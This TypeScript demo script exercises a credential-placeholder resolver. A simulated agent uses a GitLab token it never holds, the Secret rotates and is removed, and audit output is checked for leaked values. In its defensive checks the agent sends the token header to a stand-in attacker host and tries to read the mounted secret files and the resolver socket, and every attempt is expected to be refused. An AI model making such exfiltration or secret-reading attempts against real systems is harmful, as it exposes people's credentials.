/**
 * The demo: a Secret on tmpfs in kubelet's layout, the real resolver, a small supervisor proxy, an agent that keeps
 * running throughout, and a service that reports which credential arrived. Each step is checked. If a step breaks a
 * promise, the demo exits with 1.
 */

import { spawn, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { Command } from 'commander';
import { stringify } from 'yaml';
import type { CommandContext } from '../../src/cli/context.ts';
import { ExitCode } from '../../src/domain/errors.ts';
import { readMounts } from '../../src/domain/mountinfo.ts';
import { canIsolate, type RunningParty, startParty } from './parties.ts';
import { SecretVolume } from './secret-volume.ts';
import { Story } from './story.ts';
import { startUpstream } from './upstream.ts';

const HOST = 'gitlab.example.com';
const NAMESPACE = 'tenant-nvbugs-prod';
const SECRET = 'nvbugs-provider-credentials';
/** UIDs of the parties, if they can have separate ones. */
const RESOLVER_UID = 10_771;
const SUPERVISOR_UID = 20_771;
const AGENT_UID = 1_000;
/** Set inside the demo's own mount namespace, which is created once. */
const INSIDE = 'SECRET_RESOLVER_DEMO_INSIDE';

export function createCommand(context: CommandContext): Command {
  return new Command('demo')
    .description('show the main job on this machine, in under a minute; needs nothing, shows more as root')
    .action(async () => {
      const isolated = canIsolate();
      if (isolated && context.env[INSIDE] === undefined) await insideOwnMounts(context);
      else await demo(context, isolated);
    });
}

/** Runs the demo again in its own mount namespace, so that its mounts disappear however it exits. */
async function insideOwnMounts(context: CommandContext): Promise<void> {
  const child = spawn(
    'unshare',
    ['--mount', '--propagation', 'private', process.execPath, ...process.execArgv, ...process.argv.slice(1)],
    {
      env: { ...process.env, [INSIDE]: '1' },
      stdio: 'inherit',
    },
  );
  const forward = () => child.kill('SIGTERM');
  context.signal.addEventListener('abort', forward);
  const code = await new Promise<number>((done) => child.once('close', (status) => done(status ?? 1)));
  context.signal.removeEventListener('abort', forward);
  context.exit(code === 0 ? ExitCode.ok : ExitCode.refused);
}

/** The paths of one demo. */
interface Stage {
  readonly root: string;
  readonly isolated: boolean;
  readonly node: string;
  readonly app: string;
  readonly kubelet: string;
  readonly secretPath: string;
  readonly socket: string;
  readonly config: string;
  readonly caFile: string;
}

async function demo(context: CommandContext, isolated: boolean): Promise<void> {
  const story = new Story(context);
  const root = mkdtempSync(join(tmpdir(), 'secret-resolver-demo-'));
  try {
    const stage = prepare(root, isolated);
    await play(story, stage, context);
  } catch (error) {
    story.failed(error);
  } finally {
    cleanUp(root);
  }
  if (!story.conclude()) context.exit(ExitCode.refused);
}

function mount(...args: string[]): void {
  const done = spawnSync('mount', args, { encoding: 'utf8' });
  if (done.status !== 0) throw new Error(`mount ${args.join(' ')}: ${done.stderr}`);
}

/** Unmounts and removes. What is still mounted is the checkout itself: then nothing is removed. */
function cleanUp(root: string): void {
  for (const name of ['kubelet', 'app/src', 'app/examples', 'app/node_modules', 'node'])
    spawnSync('umount', ['--lazy', join(root, name)], { stdio: 'ignore' });
  if (readMounts().some(({ mountPoint }) => mountPoint.startsWith(`${root}/`))) return;
  rmSync(root, { recursive: true, force: true });
}

function prepare(root: string, isolated: boolean): Stage {
  chmodSync(root, 0o755);
  const own = join(import.meta.dirname, '../..');
  const stage: Stage = {
    root,
    isolated,
    // A checkout in a private home can be reached by us and not by the parties: they see it through a mount.
    node: isolated ? join(root, 'node') : process.execPath,
    app: isolated ? join(root, 'app') : own,
    kubelet: join(root, 'kubelet'),
    secretPath: join(root, 'secrets', NAMESPACE, SECRET),
    socket: join(root, 'run', 'socket', 'resolver.sock'),
    config: join(root, 'config.yaml'),
    caFile: join(root, 'ca.pem'),
  };
  mkdirSync(join(root, 'run'));
  chmodSync(join(root, 'run'), 0o777);
  mkdirSync(stage.secretPath, { recursive: true });
  if (isolated) {
    exposeTree(own, stage.app);
    writeFileSync(stage.node, '');
    mkdirSync(stage.kubelet, { mode: 0o700 });
    mount('--bind', process.execPath, stage.node);
    mount('-t', 'tmpfs', '-o', 'mode=0755', 'tmpfs', stage.kubelet);
  }
  writeConfiguration(stage);
  return stage;
}

/** Code and packages, each mounted for itself: the folder that holds them may be closed to everybody but its owner. */
function exposeTree(own: string, app: string): void {
  mkdirSync(app);
  copyFileSync(join(own, 'package.json'), join(app, 'package.json'));
  for (const folder of ['src', 'examples', 'node_modules']) {
    mkdirSync(join(app, folder));
    mount('--bind', join(own, folder), join(app, folder));
  }
}

function writeConfiguration(stage: Stage): void {
  const uid = process.geteuid?.() ?? 0;
  const providers = join(stage.root, 'providers');
  mkdirSync(providers);
  const source = { type: 'kubernetesSecret', namespace: NAMESPACE, name: SECRET };
  writeFileSync(
    join(providers, 'gitlab.yaml'),
    stringify({
      provider: {
        name: 'nvbugs-gitlab',
        type: 'gitlab',
        endpoints: [
          { host: HOST, port: 443 },
          { host: HOST, port: 80 },
        ],
        credentials: { GITLAB_TOKEN: { source: { ...source, key: 'gitlab-token' } } },
      },
    }),
  );
  writeFileSync(
    stage.config,
    stringify({
      sandbox: { id: 'demo-sandbox', name: 'demo', namespace: NAMESPACE },
      secretsRoot: join(stage.root, 'secrets'),
      providersDir: providers,
      socket: { path: stage.socket, mode: '0666' },
      callers: [{ name: 'supervisor', uid: stage.isolated ? SUPERVISOR_UID : uid, providers: ['*'] }],
      // What a container runtime sets and this demo cannot: all other checks hold as in a pod.
      ...(stage.isolated ? { boundary: { warn: ['self-seccomp'] } } : {}),
      // Without root all parties share our UID, and the configuration refuses an agent that is a caller too.
      agent: { uid: stage.isolated ? AGENT_UID : uid === AGENT_UID ? AGENT_UID + 1 : AGENT_UID },
    }),
  );
}

/** The volume is mounted only in the resolver's namespace. */
function mountsOf(party: 'resolver' | 'other', stage: Stage): string[] {
  const quote = (text: string) => `'${text}'`;
  if (party === 'other') return [`umount --lazy ${quote(stage.kubelet)}`];
  return [
    `mount --bind ${quote(stage.kubelet)} ${quote(stage.secretPath)}`,
    `mount -o remount,bind,ro,nosuid,nodev,noexec ${quote(stage.secretPath)}`,
    `umount --lazy ${quote(stage.kubelet)}`,
    // The folder of the socket stays writable; the root file system around it does not.
    `mount --bind ${quote(join(stage.root, 'run'))} ${quote(join(stage.root, 'run'))}`,
    'mount -o remount,bind,ro /',
  ];
}

/** One event of the supervisor. */
interface SupervisorEvent {
  readonly event: string;
  readonly url?: string;
  readonly ca?: string;
  readonly at?: string;
  readonly keys?: readonly string[];
  readonly agentEnvironment?: Readonly<Record<string, string>>;
}

interface AgentResult {
  readonly done: string;
  readonly environment?: Readonly<Record<string, string>>;
  readonly status?: number;
  readonly body?: string;
  readonly client?: string;
  readonly result?: string;
}

async function play(story: Story, stage: Stage, context: CommandContext): Promise<void> {
  const { isolated } = stage;
  const generations = new Map<string, number>();
  const identify = (credential: string) => {
    const generation = generations.get(credential);
    if (generation !== undefined)
      return `glpat-… (${credential.length} characters), the value of generation ${generation}`;
    return credential.startsWith('openshell:') ? 'a bare placeholder' : 'an unknown credential';
  };
  const volume = new SecretVolume(isolated ? stage.kubelet : stage.secretPath);
  const rotate = () => {
    const token = `glpat-${randomBytes(10).toString('hex')}`;
    generations.set(token, generations.size + 1);
    return volume.write({ 'gitlab-token': token });
  };

  story.say(
    isolated
      ? `Three parties, each with its own UID, mounts and processes: resolver ${RESOLVER_UID}, supervisor ${SUPERVISOR_UID}, agent ${AGENT_UID}.`
      : 'Without root all parties run as you. The main job is shown; the boundary between the parties is not.',
  );

  story.step('External Secrets Operator has synced a Secret, and kubelet has mounted it');
  story.see(
    `${NAMESPACE}/${SECRET} on ${isolated ? 'tmpfs, mounted read-only into the resolver and nowhere else' : 'a folder'}: ..data -> ${rotate()}`,
  );

  story.step('The resolver starts beside it');
  await using upstream = await startUpstream(HOST, identify);
  await using resolver = startParty(
    {
      name: 'resolver',
      uid: RESOLVER_UID,
      gid: RESOLVER_UID,
      mounts: mountsOf('resolver', stage),
      command: [
        stage.node,
        join(stage.app, 'src/main.ts'),
        'serve',
        '--config',
        stage.config,
        ...(isolated ? [] : ['--relaxed']),
      ],
    },
    isolated,
  );
  await resolver.next((line) => (line.includes('resolver started') ? true : undefined), 'that it serves');
  story.see(
    isolated
      ? 'it proved its boundary first: of all enforced checks only the seccomp filter, which a container runtime sets, is waived here'
      : 'with --relaxed: the boundary cannot be proven between parties that share one UID',
  );
  story.see(
    `it serves one credential on ${stage.socket.replace(stage.root, '…')}, to the supervisor's UID alone`,
  );

  story.step('The supervisor subscribes, and starts the agent with placeholders in place of values');
  await using supervisor = startParty(
    {
      name: 'supervisor',
      uid: SUPERVISOR_UID,
      gid: SUPERVISOR_UID,
      mounts: mountsOf('other', stage),
      command: [
        stage.node,
        join(stage.app, 'examples/demo/supervisor.ts'),
        JSON.stringify({
          socket: stage.socket,
          httpPort: upstream.httpPort,
          httpsPort: upstream.httpsPort,
          upstreamCa: upstream.ca,
        }),
      ],
    },
    isolated,
  );
  const event = (name: string, from = 0) =>
    supervisor.next(
      (line) => {
        const parsed = JSON.parse(line) as SupervisorEvent;
        return parsed.event === name ? parsed : undefined;
      },
      name,
      from,
    );
  const proxy = await event('proxy');
  const applied = await event('applied');
  writeFileSync(stage.caFile, proxy.ca ?? '', { mode: 0o644 });
  await using agent = startParty(
    {
      name: 'agent',
      uid: AGENT_UID,
      gid: AGENT_UID,
      mounts: mountsOf('other', stage),
      command: [stage.node, join(stage.app, 'examples/demo/agent.ts')],
      env: { ...applied.agentEnvironment, HTTPS_PROXY: proxy.url ?? '', CA_FILE: stage.caFile },
    },
    isolated,
  );
  const ask = async (task: object): Promise<AgentResult> => {
    const from = agent.lines.length;
    agent.tell(task);
    return agent.next((line) => JSON.parse(line) as AgentResult, 'a result', from, 15_000);
  };
  const { environment = {} } = await ask({ task: 'environment' });
  for (const name of ['GITLAB_TOKEN', 'HTTPS_PROXY']) story.see(`${name}=${environment[name] ?? ''}`);
  story.expect(
    'the agent holds a placeholder, and no value',
    /^openshell:resolve:env:s[0-9a-f]{64}_GITLAB_TOKEN$/.test(environment.GITLAB_TOKEN ?? '') &&
      !Object.values(environment).some((value) =>
        [...generations.keys()].some((token) => value.includes(token)),
      ),
  );

  const request = async (what: string, task: object, expected: (result: AgentResult) => boolean) => {
    const result = await ask({ task: 'request', headers: [], ...task });
    story.see(`${result.client}: ${result.status} ${result.body}`);
    story.expect(what, expected(result));
    return result;
  };
  const arrived = (where: string, generation: number) => (result: AgentResult) =>
    result.status === 200 && (result.body ?? '').includes(`generation ${generation} arrived in ${where}`);
  const plain = { url: `http://${HOST}/api/v4/user`, headers: ['PRIVATE-TOKEN: $GITLAB_TOKEN'] };

  story.step('The agent uses the token that it does not have');
  const first = await request('the real value arrived', plain, arrived('header', 1));
  if (first.client === 'curl') {
    await request(
      'over HTTPS, in a header',
      { ...plain, url: `https://${HOST}/api/v4/user` },
      arrived('header', 1),
    );
    await request(
      'over HTTPS, as Basic credentials',
      { url: `https://${HOST}/group/project.git`, user: 'oauth2:$GITLAB_TOKEN' },
      arrived('basic', 1),
    );
    await request(
      'over HTTPS, in the query',
      { url: `https://${HOST}/api/v4/user?private_token=$GITLAB_TOKEN` },
      arrived('query', 1),
    );
    await request(
      'to a host that the token is not for, it is refused',
      { ...plain, url: 'https://attacker.example.net/collect' },
      ({ status, body }) => status === 403 && (body ?? '').includes('credential_endpoint_mismatch'),
    );
  } else story.say('curl is not on this machine: HTTPS, Basic and query are left out');

  story.step('The Secret rotates while the agent runs');
  const seen = supervisor.lines.length;
  const before = process.hrtime.bigint();
  rotate();
  const again = await event('applied', seen);
  story.see(
    `in force at the supervisor ${(Number(BigInt(again.at ?? '0') - before) / 1e6).toFixed(1)} ms after kubelet began to write`,
  );
  story.expect(
    'the placeholder is the same as before',
    again.agentEnvironment?.GITLAB_TOKEN === environment.GITLAB_TOKEN,
  );
  await request('the same agent, the same placeholder, the new value', plain, arrived('header', 2));

  story.step('The key is removed from the Secret');
  const seenBefore = supervisor.lines.length;
  volume.write({ 'another-key': randomBytes(8).toString('hex') });
  await event('applied', seenBefore);
  await request(
    'the next request fails closed',
    plain,
    ({ status, body }) => status === 500 && (body ?? '').includes('credential_unavailable'),
  );

  if (isolated) await attack(story, stage, ask, async () => rotateAndWait(rotate, event, supervisor));
  else
    story.leftOut(
      "the agent's attempts on socket and files: as one and the same user they would succeed. Run it as root to see them fail.",
    );

  story.step('What the audit says');
  await sleep(100);
  for (const line of auditSummary(resolver.lines)) story.see(line);
  story.expect(
    'no value is in it',
    ![...generations.keys()].some((token) => resolver.lines.join('\n').includes(token)),
  );
  if (context.signal.aborted) story.failed(new Error('interrupted'));
}

async function rotateAndWait(
  rotate: () => string,
  event: (name: string, from: number) => Promise<SupervisorEvent>,
  supervisor: RunningParty,
): Promise<void> {
  const seen = supervisor.lines.length;
  rotate();
  await event('applied', seen);
}

/** The agent attacks the resolver. All credentials are served again by then, so that there is something to steal. */
async function attack(
  story: Story,
  stage: Stage,
  ask: (task: object) => Promise<AgentResult>,
  restore: () => Promise<void>,
): Promise<void> {
  story.step('The agent tries to get at the value itself');
  await restore();
  for (const path of [join(stage.secretPath, 'gitlab-token'), stage.kubelet]) {
    const { result = '' } = await ask({ task: 'read', path });
    story.see(`read ${path.replace(stage.root, '…')}: ${result}`);
    story.expect('refused', ['ENOENT', 'EACCES', 'EPERM'].includes(result));
  }
  const { result = '' } = await ask({ task: 'connect', path: stage.socket });
  story.see(`connect to the resolver's socket: ${result}`);
  story.expect(
    'hung up on before a byte is read or sent',
    ['closed without a byte', 'ECONNRESET', 'EPIPE'].includes(result),
  );
}

/** One line for each record, with its main fields. */
function auditSummary(lines: readonly string[]): string[] {
  const findings = lines.filter((line) => line.includes('"class_uid":2004')).length;
  const head = findings > 1 ? [`OCSF 2004 | ${findings} findings of the boundary, one record each`] : [];
  const summary = lines.flatMap((line) => {
    const record = JSON.parse(line) as {
      class_uid: number;
      message: string;
      unmapped: Record<string, unknown>;
    };
    const { outcome, reason, caller, reference, revision } = record.unmapped as {
      outcome?: string;
      reason?: string;
      caller?: { uid?: number };
      reference?: string;
      revision?: string;
    };
    if (outcome === 'acknowledged' || (record.class_uid === 2004 && findings > 1)) return [];
    return [
      [
        `OCSF ${record.class_uid}`,
        record.message,
        reference,
        caller?.uid === undefined ? undefined : `uid ${caller.uid}`,
        reason,
        revision === undefined ? undefined : `revision ${revision}`,
      ]
        .filter((part) => part !== undefined)
        .join(' | '),
    ];
  });
  return [...head, ...summary];
}
